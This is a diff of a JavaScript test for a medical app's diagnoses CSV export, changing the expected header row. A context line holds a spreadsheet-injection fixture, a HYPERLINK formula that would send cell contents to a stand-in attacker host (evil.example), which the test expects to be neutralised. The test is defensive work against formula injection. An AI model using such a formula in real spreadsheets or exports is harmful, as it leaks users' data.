@@ -175,7 +175,7 @@ test("a formula a doctor types into a diagnosis reaches the admin's diagnoses CS
   const bytes = await res.body();
   expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   const lines = bytes.toString("utf8").slice(1).trimEnd().split("\n");
-  expect(lines[0]).toBe("code,description,count");
+  expect(lines[0]).toBe("ICD-10 code,Description,Count"); // headed for a person, in the admin's language
   expect(lines).toContain('U99.8,"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",3');
   expect(lines).toContain("U99.9,\"Fièvre à 39,5 °C\",3");
 });
